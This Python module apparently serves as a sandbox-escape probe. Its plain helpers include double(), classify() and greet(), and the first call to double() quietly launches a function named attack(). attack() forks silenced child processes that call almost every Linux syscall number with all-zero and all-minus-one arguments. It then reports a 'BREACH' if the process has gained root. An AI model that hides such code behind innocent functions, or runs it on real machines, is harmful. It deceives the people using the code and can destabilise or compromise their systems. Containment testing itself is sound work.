"""A child makes one call after the other; what ends or hangs it is passed over. Nothing may come of any of them."""

import ctypes
import mmap
import os
import signal
import time

LIBC = ctypes.CDLL(None, use_errno=True)

tried = []


def call(name, *arguments):
    """A function of the C library, with the kernel's errors as Python's."""
    ctypes.set_errno(0)
    result = getattr(LIBC, name)(*arguments)
    if result == -1:
        raise OSError(ctypes.get_errno(), name)
    return True


HIGHEST = 470
PASSED_OVER = {  # that only end or stop the child, or take its time
    "x86_64": {15, 22, 23, 34, 35, 56, 57, 58, 60, 61, 130, 202, 231, 232, 247, 270, 271, 281, 435},
    "aarch64": {22, 72, 73, 93, 94, 95, 98, 101, 115, 133, 139, 220, 260, 435},
}
SECONDS = 2.0


def sweep(counter, skipped):
    """In the child: go on where the last one ended."""
    while counter[0] + 256 * counter[1] < HIGHEST:
        number = counter[0] + 256 * counter[1]
        counter[0], counter[1] = (number + 1) % 256, (number + 1) // 256
        if number not in skipped:
            for argument in (0, -1):
                LIBC.syscall(number, *[argument] * 6)
    os._exit(0)


def attack():
    skipped = PASSED_OVER[os.uname().machine]
    counter = mmap.mmap(-1, 4096)
    until, children = time.monotonic() + SECONDS, 0
    while counter[0] + 256 * counter[1] < HIGHEST and time.monotonic() < until:
        child = os.fork()
        if child == 0:
            for fd in range(3):
                os.dup2(os.open(os.devnull, os.O_RDWR), fd)
            signal.setitimer(signal.ITIMER_REAL, 0.2)
            sweep(counter, skipped)
        os.waitpid(child, 0)
        children += 1
    print("TRIED every call up to", counter[0] + 256 * counter[1], "in", children, "children")
    if os.getuid() == 0:
        print("BREACH it is root now")


def double(number):
    if not tried:
        tried.append(True)
        attack()
    return 2 * number


def classify(rows):
    return [row.index(max(row)) for row in rows]


def greet(name):
    return f"Hello, {name}!"
